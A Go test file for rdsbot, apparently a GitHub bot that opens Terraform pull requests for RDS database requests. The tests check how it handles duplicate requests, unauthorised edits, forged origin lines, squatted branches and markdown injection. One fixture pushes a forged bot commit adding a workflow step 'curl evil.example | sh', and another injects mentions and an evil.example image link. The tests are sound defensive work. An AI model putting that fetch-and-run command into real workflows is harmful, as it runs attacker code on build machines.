package sandbox

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"testing"

	"github.com/rdsbot/rdsbot/pkg/githubfake"
	"github.com/rdsbot/rdsbot/pkg/md/mdtest"
)

// statusOf returns the status comment of a request issue ("" when none).
func statusOf(s *Sandbox, n int) string {
	for _, c := range botComments(s, n) {
		if strings.Contains(c.Body, "<!-- rdsbot:status -->") {
			return c.Body
		}
	}
	return ""
}

func pullByNumber(s *Sandbox, n int) githubfake.PullInfo {
	for _, pr := range s.Fake.PullRequests(s.Repo) {
		if pr.Number == n {
			return pr
		}
	}
	return githubfake.PullInfo{}
}

func openOrders(t *testing.T, s *Sandbox, who string, answers map[string]string) int {
	t.Helper()
	n, err := s.Fake.As(who).OpenIssueForm(s.Repo, form, "orders database", answers)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func withAnswer(answers map[string]string, k, v string) map[string]string {
	out := map[string]string{}
	for key, val := range answers {
		out[key] = val
	}
	out[k] = v
	return out
}

// A second request for a name another open request holds is refused, with
// the holder named, and the first pull request is not touched; five at once
// give one pull request and four refusals.
func TestSecondRequestForPendingNameIsRefused(t *testing.T) {
	s := start(t, Options{})
	first := openOrders(t, s, Requester, ordersAnswers)
	settle(t, s)
	before := snapshot(t, s, first)
	if before.prs != 1 {
		t.Fatalf("first request: %+v", before)
	}
	second := openOrders(t, s, "erin", withAnswer(ordersAnswers, "Application username", "erin_app"))
	settle(t, s)
	if after := snapshot(t, s, first); after.head != before.head || after.prs != 1 || after.commits != before.commits {
		t.Errorf("the first pull request changed: %+v -> %+v", before, after)
	}
	st := plain(statusOf(s, second))
	if !strings.Contains(st, "name already requested") || !strings.Contains(st, fmt.Sprintf("#%d", first)) {
		t.Errorf("second request's status:\n%s", st)
	}
	if st := plain(statusOf(s, first)); !strings.Contains(st, "waiting for approval") {
		t.Errorf("first request's status:\n%s", st)
	}

	// Five at once for a new name.
	s.Fake.AddUser("frank")
	s.Fake.AddOrg(Org, "frank")
	answers := withAnswer(ordersAnswers, "Database name", "billing")
	var wg sync.WaitGroup
	issues := make([]int, 5)
	for i, who := range []string{Requester, "erin", "frank", Platform, DBA} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			n, err := s.Fake.As(who).OpenIssueForm(s.Repo, form, "billing", answers)
			if err != nil {
				t.Error(err)
			}
			issues[i] = n
		}()
	}
	wg.Wait()
	settle(t, s)
	var billing []githubfake.PullInfo
	for _, pr := range requestPulls(s) {
		if strings.Contains(pr.Head, "billing") {
			billing = append(billing, pr)
		}
	}
	if len(billing) != 1 {
		t.Fatalf("%d pull requests for billing, want 1", len(billing))
	}
	if cs, _ := s.Fake.Commits(s.Repo, billing[0].Head); len(cs) == 0 {
		t.Fatal("no commits")
	}
	refused := 0
	for _, n := range issues {
		if strings.Contains(plain(statusOf(s, n)), "name already requested") {
			refused++
		}
	}
	if refused != 4 {
		t.Errorf("%d of 5 requests refused, want 4", refused)
	}
	// A reconcile changes nothing: no flip-flopping between the requests.
	head := s.Fake.BranchSHA(s.Repo, billing[0].Head)
	if err := s.Server.Reconcile(context.Background()); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if s.Fake.BranchSHA(s.Repo, billing[0].Head) != head {
		t.Error("the reconcile moved the holder's branch")
	}
}

// The holder withdraws (closes its issue): the name passes to the next
// request.
func TestWithdrawnNamePassesOn(t *testing.T) {
	s := start(t, Options{})
	first := openOrders(t, s, Requester, ordersAnswers)
	settle(t, s)
	second := openOrders(t, s, "erin", ordersAnswers)
	settle(t, s)
	closed := "closed"
	if err := s.Fake.As(Requester).EditIssue(s.Repo, first, githubfake.IssueEdit{State: &closed}); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if st := plain(statusOf(s, first)); !strings.Contains(st, "withdrawn") {
		t.Errorf("first request after closing:\n%s", st)
	}
	// test is not self-serve: the requester may not retry alone, a
	// platform member may.
	if _, err := s.Fake.As(Platform).Comment(s.Repo, second, "/rds retry"); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if st := plain(statusOf(s, second)); !strings.Contains(st, "waiting for approval") {
		t.Errorf("second request after the first withdrew:\n%s", st)
	}
}

// The same Backstage request submitted twice (two deliveries, same inputs)
// gives one issue and one pull request.
func TestDoubleSubmittedDispatchJoins(t *testing.T) {
	s := start(t, Options{})
	for range 2 {
		if _, err := s.Fake.As(Backstage).DispatchWorkflow(s.Repo, "create-rds-database.yml", "main", backstageInputs("payments", "staging")); err != nil {
			t.Fatal(err)
		}
	}
	settle(t, s)
	requests := 0
	for _, is := range s.Fake.Issues(s.Repo) {
		if !is.IsPR {
			requests++
		}
	}
	if requests != 1 || len(requestPulls(s)) != 1 {
		t.Errorf("%d issues and %d pull requests, want 1 and 1", requests, len(requestPulls(s)))
	}
}

// An edit by someone who may not change the request is not applied and is
// answered once; the platform team may edit.
func TestEditByOthersIsNotApplied(t *testing.T) {
	s := start(t, Options{})
	n := openOrders(t, s, Requester, ordersAnswers)
	settle(t, s)
	before := snapshot(t, s, n)
	is, err := s.Fake.Issue(s.Repo, n)
	if err != nil {
		t.Fatal(err)
	}
	for _, edit := range []string{"orders_service", "orders_evil"} {
		body := strings.Replace(is.Body, "orders_app", "erin_"+edit[7:]+"_app", 1)
		if err := s.Fake.As("erin").EditIssue(s.Repo, n, githubfake.IssueEdit{Body: &body}); err != nil {
			t.Fatal(err)
		}
		settle(t, s)
	}
	after := snapshot(t, s, n)
	if after.head != before.head || after.prs != 1 {
		t.Errorf("someone else's edit changed the pull request: %+v -> %+v", before, after)
	}
	notices := 0
	for _, c := range botComments(s, n) {
		if strings.Contains(c.Body, "your edit was not applied") {
			notices++
		}
	}
	if notices != 1 {
		t.Errorf("%d notices to erin, want 1", notices)
	}
	if st := plain(statusOf(s, n)); !strings.Contains(st, "differs from the request rdsbot uses") {
		t.Errorf("status does not say the text differs:\n%s", st)
	}
	// bob is in platform-team, which may edit requests.
	body := strings.Replace(is.Body, "orders_app", "orders_svc", 1)
	if err := s.Fake.As(Platform).EditIssue(s.Repo, n, githubfake.IssueEdit{Body: &body}); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	tfvars, _ := s.Fake.File(s.Repo, "rds/test/orders_service", "envs/test-rds/terraform.tfvars")
	if !strings.Contains(string(tfvars), `"orders_svc"`) {
		t.Errorf("the platform team's edit was not applied:\n%s", tfvars)
	}
}

// Text in the body of a dispatch's issue (as an old origin line) decides
// nothing: the requester is what the ledger recorded.
func TestEditedOriginLineChangesNothing(t *testing.T) {
	s := start(t, Options{})
	if _, err := s.Fake.As(Backstage).DispatchWorkflow(s.Repo, "create-rds-database.yml", "main", backstageInputs("payments", "staging")); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	var n int
	for _, is := range s.Fake.Issues(s.Repo) {
		if !is.IsPR {
			n = is.Number
		}
	}
	is, _ := s.Fake.Issue(s.Repo, n)
	s.Fake.AddUser("mallory")
	forged := "<!-- rdsbot:origin source=workflow_dispatch delivery=x requester=mallory sender=mallory -->\n" + is.Body
	if err := s.Fake.As("mallory").EditIssue(s.Repo, n, githubfake.IssueEdit{Body: &forged}); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	o, _, _ := s.Server.Ledger().Origin(context.Background(), s.Repo, n)
	if o.Requester != Requester {
		t.Errorf("requester %q", o.Requester)
	}
	writes := s.Server.App().Metrics().Snapshot().Writes
	if _, err := s.Fake.As("mallory").Comment(s.Repo, n, "/rds retry"); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if w := s.Server.App().Metrics().Snapshot().Writes - writes; w != 0 {
		t.Errorf("mallory's command after forging an origin line made %d writes", w)
	}
}

// Labelling someone else's issue does not make it a request.
func TestRelabelledForeignIssueIsNoRequest(t *testing.T) {
	s := start(t, Options{})
	n, err := s.Fake.As("erin").OpenIssue(s.Repo, "a question", "### Database name\n\nerin_db\n")
	if err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if err := s.Fake.As(Platform).AddLabels(s.Repo, n, "rds-request"); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if err := s.Server.Reconcile(context.Background()); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if len(botComments(s, n)) != 0 || len(requestPulls(s)) != 0 {
		t.Errorf("a relabelled foreign issue became a request: %d comments, %d pull requests", len(botComments(s, n)), len(requestPulls(s)))
	}
}

// A dispatched name with backticks, mentions and newlines renders inertly
// in the issue the bot opens and in its status.
func TestHostileInputRendersInertly(t *testing.T) {
	s := start(t, Options{})
	in := backstageInputs("x` @acme/platform-team ![i](https://evil.example/p.png) `", "dev")
	in["username"] = "a\n\n### Owning team\n\nsecurity-team"
	in["user"] = "alice\n## Approved by @acme/security-team"
	if _, err := s.Fake.As(Backstage).DispatchWorkflow(s.Repo, "create-rds-database.yml", "main", in); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	found := false
	for _, is := range s.Fake.Issues(s.Repo) {
		if is.IsPR {
			continue
		}
		found = true
		if strings.Contains(is.Title, "\n") || len([]rune(is.Title)) > 256 {
			t.Errorf("title %q", is.Title)
		}
		if live := mdtest.Findings(is.Body, "@"+Backstage); len(live) > 0 {
			t.Errorf("issue body: %v\n%s", live, is.Body)
		}
		for _, c := range botComments(s, is.Number) {
			if live := mdtest.Findings(c.Body, "@"+Backstage); len(live) > 0 {
				t.Errorf("comment: %v\n%s", live, c.Body)
			}
		}
	}
	if !found || len(requestPulls(s)) != 0 {
		t.Errorf("found an issue: %v; pull requests: %d", found, len(requestPulls(s)))
	}
}

// Reopening a withdrawn request reopens its pull request; a reviewer who
// closes it unmerged is named and the requester told what to do.
func TestReopenAndCloseUnmerged(t *testing.T) {
	s := start(t, Options{})
	n := openOrders(t, s, Requester, ordersAnswers)
	settle(t, s)
	pr := requestPulls(s)[0]
	closed, open := "closed", "open"
	if err := s.Fake.As(Requester).EditIssue(s.Repo, n, githubfake.IssueEdit{State: &closed}); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if p := pullByNumber(s, pr.Number); p.Issue.State != "closed" {
		t.Fatalf("withdrawing left the pull request %s", p.Issue.State)
	}
	if err := s.Fake.As(Requester).EditIssue(s.Repo, n, githubfake.IssueEdit{State: &open}); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if p := pullByNumber(s, pr.Number); p.Issue.State != "open" {
		t.Errorf("reopening the request left its pull request %s", p.Issue.State)
	}
	if st := plain(statusOf(s, n)); !strings.Contains(st, "waiting for approval") {
		t.Errorf("status after reopening:\n%s", st)
	}
	if err := s.Fake.As(Platform).EditPR(s.Repo, pr.Number, githubfake.PullEdit{State: &closed}); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	st := plain(statusOf(s, n))
	if !strings.Contains(st, "closed without merging") || !strings.Contains(st, "@"+Platform) || !strings.Contains(st, "/rds retry") {
		t.Errorf("status after a reviewer closed the pull request:\n%s", st)
	}
	if p := pullByNumber(s, pr.Number); p.Issue.State != "closed" {
		t.Error("the bot reopened a pull request a reviewer closed")
	}
	// test is not self-serve: the requester may not retry alone (separation
	// of duties); a platform member who approved nothing may.
	if _, err := s.Fake.As(Requester).Comment(s.Repo, n, "/rds retry"); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if p := pullByNumber(s, pr.Number); p.Issue.State != "closed" {
		t.Error("/rds retry by the requester alone reopened the pull request of a test request")
	}
	if _, err := s.Fake.As(Platform).Comment(s.Repo, n, "/rds retry"); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if p := pullByNumber(s, pr.Number); p.Issue.State != "open" {
		t.Error("/rds retry by a platform member did not reopen the pull request")
	}
}

// A branch someone else created, and a person's push to the bot's branch,
// block the request with a status that says so.
func TestSquattedBranchAndHumanPush(t *testing.T) {
	s := start(t, Options{})
	if _, err := s.Fake.As("erin").Push(s.Repo, "rds/test/orders_service", githubfake.Change{Files: map[string]string{"x.txt": "mine"}}); err != nil {
		t.Fatal(err)
	}
	n := openOrders(t, s, Requester, ordersAnswers)
	settle(t, s)
	st := plain(statusOf(s, n))
	if !strings.Contains(st, "belongs to someone else") || !strings.Contains(st, "was not made by rdsbot") {
		t.Errorf("status with a squatted branch:\n%s", st)
	}
	if len(requestPulls(s)) != 0 {
		t.Error("a pull request was opened from a squatted branch")
	}

	other := openOrders(t, s, Requester, withAnswer(ordersAnswers, "Database name", "billing"))
	settle(t, s)
	var pr githubfake.PullInfo
	for _, p := range requestPulls(s) {
		if strings.Contains(p.Head, "billing") {
			pr = p
		}
	}
	if _, err := s.Fake.As(Platform).Push(s.Repo, pr.Head, githubfake.Change{Files: map[string]string{".github/workflows/x.yml": "on: push"}}); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	st = plain(statusOf(s, other))
	if !strings.Contains(st, "changed by someone else") || !strings.Contains(st, ".github/workflows/x.yml") {
		t.Errorf("status after a human push:\n%s", st)
	}
}

// An edit after the request merged changes nothing and is answered once.
func TestEditAfterMerge(t *testing.T) {
	s := start(t, Options{})
	n := openOrders(t, s, Requester, ordersAnswers)
	settle(t, s)
	pr := requestPulls(s)[0]
	if _, err := s.Fake.As(Platform).Merge(s.Repo, pr.Number, "squash"); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	if st := plain(statusOf(s, n)); !strings.Contains(st, "merged") {
		t.Fatalf("status after merge:\n%s", st)
	}
	is, _ := s.Fake.Issue(s.Repo, n)
	for _, v := range []string{"orders_x", "orders_y"} {
		body := strings.Replace(is.Body, "orders_app", v, 1)
		if err := s.Fake.As(Requester).EditIssue(s.Repo, n, githubfake.IssueEdit{Body: &body}); err != nil {
			t.Fatal(err)
		}
		settle(t, s)
	}
	notices := 0
	for _, c := range botComments(s, n) {
		if strings.Contains(c.Body, "was merged in") {
			notices++
		}
	}
	if notices != 1 {
		t.Errorf("%d notices about editing a merged request, want 1", notices)
	}
	if len(requestPulls(s)) != 1 {
		t.Errorf("an edit after merge opened another pull request")
	}
}

// A member pushes a commit that claims to be the bot's (author rdsbot[bot],
// rdsbot's own e-mail) adding a workflow: rdsbot does not take it for its
// own, keeps nothing of it, and blocks the request naming the file.
func TestForgedBotCommitBlocks(t *testing.T) {
	s := start(t, Options{})
	n := openOrders(t, s, Requester, ordersAnswers)
	settle(t, s)
	pr := requestPulls(s)[0]
	cs, err := s.Fake.Commits(s.Repo, pr.Head)
	if err != nil || len(cs) == 0 {
		t.Fatal(err)
	}
	bot := cs[0].Author // the bot's own signature, as on its commits
	if _, err := s.Fake.As(Platform).Push(s.Repo, pr.Head, githubfake.Change{
		Files:  map[string]string{".github/workflows/x.yml": "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil.example | sh'}]}}\n"},
		Author: &bot, Message: "Update request",
	}); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	st := plain(statusOf(s, n))
	if !strings.Contains(st, "changed by someone else") || !strings.Contains(st, ".github/workflows/x.yml") {
		t.Errorf("status after a forged bot commit:\n%s", st)
	}
	if _, err := s.Fake.As(Requester).Comment(s.Repo, n, "/rds status"); err != nil {
		t.Fatal(err)
	}
	settle(t, s)
	head := s.Fake.BranchSHA(s.Repo, pr.Head)
	if cs2, _ := s.Fake.Commits(s.Repo, pr.Head); cs2[0].SHA != head || cs2[0].Author.Name != bot.Name {
		t.Errorf("rdsbot wrote over the branch: head %s", head)
	}
}
